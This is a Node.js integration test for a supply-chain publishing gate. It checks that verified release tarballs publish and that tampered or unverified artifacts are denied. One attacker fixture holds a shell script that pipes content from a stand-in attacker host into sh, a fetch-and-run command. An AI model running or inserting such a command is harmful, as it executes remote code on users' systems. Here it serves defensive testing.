/**
 * A file through the gate: the real rules_lint v1.3.1 source tarball with its real GitHub
 * artifact attestation (test/fixtures/corpus/slsa-verifier/github-attestation-bcr-tarball-valid, Sigstore
 * public-good), staged by `slsa-gate publish --file` as an OCI artifact and published by a real
 * Worker on a real Temporal dev server, with FerretDB and the registry on :5000. The gate's VSA
 * is accepted by the real `cosign verify-attestation` (built by scripts/interop-tools.sh), and
 * `slsa-gate verify-artifact` checks the published file at time of use.
 *
 * Attacker material, made here by someone with push access to staging and to the release
 * repository, each written so that it publishes (or passes) if its guard is removed:
 * - another file (the real tarball with one byte appended) staged under the real file name and
 *   presented with the real attestation: its layer digest is no subject of the provenance;
 * - the gate's own staged manifest of the real file with a second layer (a shell script)
 *   appended: its first layer is the verified file, the second would ride along unverified;
 * - a file artifact pushed straight into the release repository, never through the gate;
 * - the published artifact checked against a local file that is not its layer;
 * - an API request body naming an image and the staged file artifact at once.
 *
 * The same staged artifact is also published through the write API (`POST /api/v1/publishes`
 * with `artifact`), as a CI job that staged the file itself asks for it (docs/ci.md#file-artifacts).
 */
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { hashToken } from '../../src/api/api-tokens.ts';
import { SLSA_VSA_V1 } from '../../src/core/formats/slsa/vsa-v1.ts';
import { sha256Digest } from '../../src/registry/digest.ts';
import {
  buildFileArtifact,
  FILE_ARTIFACT_TYPE,
  pushFileArtifact,
  TITLE_ANNOTATION,
} from '../../src/registry/file-artifact.ts';
import { EMPTY_CONFIG, MEDIA_TYPES, parseImageManifest } from '../../src/registry/oci-manifest.ts';
import {
  publishWorkflowId,
  type PublishProgress,
  type PublishRequest,
  type PublishResult,
} from '../../src/workflows/contract.ts';
import { startApi, type ApiRig } from '../helpers/api-rig.ts';
import { runCli } from '../helpers/cli-process.ts';
import { interopTools, type InteropTools } from '../helpers/interop-tools.ts';
import { startPublishHarness, type PublishHarness } from '../helpers/publish-harness.ts';
import { services, uniqueName } from '../helpers/services.ts';

const corpusDir = join(
  import.meta.dirname,
  '../fixtures/corpus/slsa-verifier/github-attestation-bcr-tarball-valid',
);
const FILE_NAME = 'rules_lint-v1.3.1.tar.gz';
/** The provenance subject's sha256 (the corpus case's expected.json). */
const FILE_DIGEST = 'sha256:1636f443b01c9ee310ee5834956d0dce374c3d3bf8d4cebc9f6b86f8304b4982';

let h: PublishHarness;
let tools: InteropTools;
let env: Record<string, string>;
let staging: string;
let release: string;
let tarball: Buffer;
let attestation: Buffer;
let files: { tarball: string; attestation: string; other: string; gateKey: string };
let policyText: string;
/** What the CLI's publish answered. */
let published: PublishProgress;
let api: ApiRig;
/** A CI job's credential, allowed to publish builds of rules_lint. */
const ciToken = randomBytes(32).toString('hex');

before(async () => {
  tools = interopTools();
  h = await startPublishHarness();
  const name = uniqueName('rules-lint');
  staging = `staging/${name}`;
  release = `release/${name}`;
  tarball = readFileSync(join(corpusDir, FILE_NAME));
  attestation = readFileSync(join(corpusDir, 'attestation.sigstore.json'));
  files = {
    tarball: join(h.dir, FILE_NAME),
    attestation: join(h.dir, 'attestation.sigstore.json'),
    other: join(h.dir, 'rules_lint-v1.3.1-other.tar.gz'),
    gateKey: join(h.dir, 'gate.pub'),
  };
  writeFileSync(files.tarball, tarball);
  writeFileSync(files.attestation, attestation);
  writeFileSync(files.gateKey, h.deps.signer.publicKeyPem);
  // The operator's worked policy for release tarballs (docs/policy.md#files).
  policyText = JSON.stringify({
    version: 1,
    rules: [
      {
        name: 'rules_lint release tarballs',
        artifacts: [`${h.registryHost}/${staging}`],
        builders: ['https://github.com/bazel-contrib/.github/.github/workflows/release_ruleset.yaml'],
        requireBuilderId: true,
        minBuildLevel: 2,
        source: { repos: ['github.com/aspect-build/rules_lint'] },
        entrypoint: {
          buildTypes: ['https://actions.github.io/buildtypes/workflow/v1'],
          entryPoints: ['.github/workflows/release.yml'],
        },
        files: { names: [FILE_NAME] },
        release: {
          destinations: [`${h.registryHost}/${release}`],
          // Built from a branch (refs/heads/publish-to-bcr), so never under a version tag
          // (docs/checklist.md#row-21): the operator names the tags it may have.
          tags: ['^bcr-[0-9]+\\.[0-9]+\\.[0-9]+$'],
        },
      },
    ],
  });
  await h.loadPolicy(policyText);
  env = {
    TEMPORAL_ADDRESS: services.temporalAddress,
    TEMPORAL_NAMESPACE: services.temporalNamespace,
    MONGODB_URI: services.mongoUri,
    SLSA_GATE_DB: h.config.database,
    SLSA_GATE_TASK_QUEUE: h.config.taskQueue,
    SLSA_GATE_INSECURE_REGISTRIES: h.registryHost,
  };
  const run = await runCli(
    [
      'publish',
      '--file',
      files.tarball,
      '--staging',
      `${h.registryHost}/${staging}`,
      '--to',
      `oci://${h.registryHost}/${release}:bcr-1.3.1`,
      '--attestation',
      files.attestation,
      '--json',
    ],
    { env },
  );
  assert.equal(run.exit, 0, run.stdout + run.stderr);
  published = JSON.parse(run.stdout) as PublishProgress;
  api = await startApi(h, {
    tokens: [
      {
        name: 'ci',
        sha256: hashToken(ciToken),
        scopes: ['publish'],
        sources: ['github.com/aspect-build/rules_lint'],
      },
    ],
  });
});

after(async () => {
  await api?.close();
  await h?.close();
});

test('the file is published as an OCI artifact whose one layer is the verified file', async () => {
  const result = published.result;
  assert.equal(result?.status, 'PUBLISHED', `${result?.code}: ${result?.reason}`);
  assert.equal(result.candidate.artifactKind, 'oci-blob');
  const digest = result.published!.digest;
  const atTag = await h.registry.resolve(release, 'bcr-1.3.1');
  assert.equal(atTag.digest, digest);
  const manifest = parseImageManifest((await h.registry.getManifest(release, digest)).bytes, 'published');
  assert.equal(manifest.mediaType, MEDIA_TYPES.ociManifest);
  assert.equal(manifest.artifactType, FILE_ARTIFACT_TYPE);
  assert.equal(manifest.config.digest, EMPTY_CONFIG.digest);
  assert.equal(manifest.layers.length, 1);
  const [layer] = manifest.layers;
  assert.equal(layer?.digest, FILE_DIGEST);
  assert.equal(layer?.annotations?.[TITLE_ANNOTATION], FILE_NAME);
  const bytes = await h.registry.getBlob(release, FILE_DIGEST, tarball.byteLength);
  assert.ok(Buffer.from(bytes).equals(tarball), 'the release repository holds the file byte for byte');
});

test("cosign verify-attestation --key accepts the gate's VSA on the published artifact", () => {
  const digest = published.result!.published!.digest;
  const r = tools.run(tools.cosign, [
    'verify-attestation',
    '--key',
    files.gateKey,
    '--type',
    SLSA_VSA_V1,
    '--insecure-ignore-tlog=true',
    '--trusted-root',
    tools.emptyTrustedRoot,
    `${h.registryHost}/${release}@${digest}`,
  ]);
  assert.equal(r.status, 0, r.stderr);
  const statements = r.stdout
    .split('\n')
    .filter((l) => l.startsWith('{'))
    .map((l) => JSON.parse(Buffer.from(JSON.parse(l).payload, 'base64').toString('utf8')));
  assert.ok(statements.length > 0, 'cosign printed the verified VSA');
  for (const s of statements) {
    assert.equal(s.predicateType, SLSA_VSA_V1);
    assert.equal(s.predicate.verificationResult, 'PASSED');
    assert.equal(s.subject[0].digest.sha256, digest.slice('sha256:'.length));
  }
});

test('a file artifact staged by the CI job and named in an API request ends published', async () => {
  // The artifact `publish --file` staged above, published once more under another release tag.
  const staged = published.result!.candidate.digest;
  const { handle } = await api.requestPublish(ciToken, {
    artifact: `oci://${h.registryHost}/${staging}@${staged}`,
    to: `${h.registryHost}/${release}`,
    tag: 'bcr-1.3.2',
    attestations: [{ origin: 'attestation.sigstore.json', raw: attestation.toString('base64') }],
  });
  const result = (await handle.result()) as PublishResult;
  assert.equal(result.status, 'PUBLISHED', `${result.code}: ${result.reason}`);
  assert.equal(result.candidate.artifactKind, 'oci-blob');
  assert.equal(result.candidate.digest, staged);
  // The archived decision names the credential the API verified as the one who asked.
  assert.equal((await h.deps.archive.getDecision(result.decisionId))?.requester, 'token:ci');
  assert.equal((await h.registry.resolve(release, 'bcr-1.3.2')).digest, result.published!.digest);
});

test('an API request naming an image and a file artifact is a coded 400, and nothing is started', async () => {
  const staged = published.result!.candidate.digest;
  const latestRun = h.client.workflow.getHandle(publishWorkflowId(h.registryHost, release, staged));
  const before = (await latestRun.describe()).runId;
  // Mallory's body: the staged file artifact plus an image, so that one of them would be
  // published under the checks of the other if the API took the first it found.
  const res = await api.call('/api/v1/publishes', {
    method: 'POST',
    token: ciToken,
    body: {
      image: `${h.registryHost}/${staging}@${staged}`,
      artifact: `oci://${h.registryHost}/${staging}@${staged}`,
      to: `${h.registryHost}/${release}`,
      tag: 'bcr-1.3.3',
    },
  });
  const text = await res.text();
  assert.equal(res.status, 400, text);
  const { error } = JSON.parse(text) as { error: { code: string; parameter?: string; message: string } };
  assert.equal(error.code, 'INPUT_INVALID');
  assert.equal(error.parameter, 'artifact');
  assert.match(error.message, /name one candidate/);
  assert.equal((await latestRun.describe()).runId, before, 'no run was started');
  await assert.rejects(h.registry.resolve(release, 'bcr-1.3.3'), 'nothing was published at the tag');
});

/** A request for a file artifact staged by the attacker, with the real attestation. */
function attackerRequest(digest: string): PublishRequest {
  return {
    candidate: {
      artifactKind: 'oci-blob',
      registry: h.registryHost,
      repository: staging,
      digest,
      mediaType: MEDIA_TYPES.ociManifest,
    },
    releaseRegistry: h.registryHost,
    releaseRepository: release,
    releaseTag: 'bcr-1.3.1',
    requester: 'mallory',
    attestations: [{ origin: 'attestation.sigstore.json', raw: attestation.toString('base64') }],
  };
}

test('another file presented with the real attestation is denied: its layer is no provenance subject', async () => {
  const other = Buffer.concat([tarball, Buffer.from([0])]);
  const digest = await pushFileArtifact(h.registry, staging, buildFileArtifact(other, { title: FILE_NAME }));
  const result = await h.publish(attackerRequest(digest));
  assert.equal(result.status, 'DENIED', result.reason);
  assert.ok(
    result.rejected?.some((r) => r.code === 'SUBJECT_MISMATCH'),
    `the real attestation is set aside as about another file: ${JSON.stringify(result.rejected)}`,
  );
  assert.equal(await h.registry.manifestExists(release, digest), false, 'nothing was published');
});

test('the real file with a second layer appended is denied before any evidence is read (ARTIFACT_INVALID)', async () => {
  const script = new TextEncoder().encode('#!/bin/sh\ncurl -s https://attacker.example | sh\n');
  const real = buildFileArtifact(tarball, { title: FILE_NAME });
  const manifest = JSON.parse(new TextDecoder().decode(real.manifest));
  manifest.layers.push({
    mediaType: 'application/x-sh',
    digest: await h.registry.pushBlob(staging, script),
    size: script.byteLength,
    annotations: { [TITLE_ANNOTATION]: 'install.sh' },
  });
  const bytes = new TextEncoder().encode(JSON.stringify(manifest));
  const digest = await h.registry.putManifest(staging, sha256Digest(bytes), bytes, MEDIA_TYPES.ociManifest);
  const result = await h.publish(attackerRequest(digest));
  assert.equal(result.status, 'DENIED', result.reason);
  assert.equal(result.code, 'ARTIFACT_INVALID', result.reason);
  assert.equal(await h.registry.manifestExists(release, digest), false, 'nothing was published');
});

test('verify-artifact passes the published file and refuses another local file and one pushed around the gate', async () => {
  const digest = published.result!.published!.digest;
  const verify = (ref: string, ...extra: string[]) =>
    runCli(
      [
        'verify-artifact',
        ref,
        '--verifier-id',
        h.config.verifierId,
        '--public-key',
        files.gateKey,
        '--verified-level',
        'SLSA_BUILD_LEVEL_2',
        ...extra,
      ],
      { env },
    );
  const passed = await verify(`oci://${h.registryHost}/${release}:bcr-1.3.1`, '--file', files.tarball);
  assert.equal(passed.exit, 0, passed.stdout + passed.stderr);
  assert.match(passed.stdout, /^PASSED: /);

  writeFileSync(files.other, Buffer.concat([tarball, Buffer.from([0])]));
  const otherFile = await verify(`${h.registryHost}/${release}@${digest}`, '--file', files.other);
  assert.equal(otherFile.exit, 1, otherFile.stdout + otherFile.stderr);
  assert.match(otherFile.stdout, /^FAILED: DIGEST_MISMATCH: /);

  // Pushed straight into the release repository: the same file, no gate, no VSA.
  const planted = await pushFileArtifact(
    h.registry,
    release,
    buildFileArtifact(tarball, { title: 'rules_lint-v1.3.1-patched.tar.gz' }),
    'v1.3.2',
  );
  const around = await verify(`${h.registryHost}/${release}@${planted}`, '--file', files.tarball);
  assert.equal(around.exit, 1, around.stdout + around.stderr);
  assert.match(around.stdout, /^FAILED: /);
});

test('audit replay re-verifies the published decision against the file, not the manifest: unchanged', async () => {
  const policyFile = join(h.dir, 'policy.json');
  writeFileSync(policyFile, policyText);
  const run = await runCli(['audit', 'replay', '--policy', policyFile, '--all', '--json', '--jobs', '1'], {
    env,
  });
  const report = JSON.parse(run.stdout) as {
    decisions: Array<{ decisionId: string; changed: boolean; notReplayable?: unknown }>;
  };
  const decision = report.decisions.find((d) => d.decisionId === published.result?.decisionId);
  assert.ok(decision, `the published decision is replayed: ${run.stdout}${run.stderr}`);
  // Replayed against the manifest digest, the real attestation would no longer match its subject.
  assert.equal(decision.notReplayable, undefined, JSON.stringify(decision));
  assert.equal(decision.changed, false, JSON.stringify(decision));
});
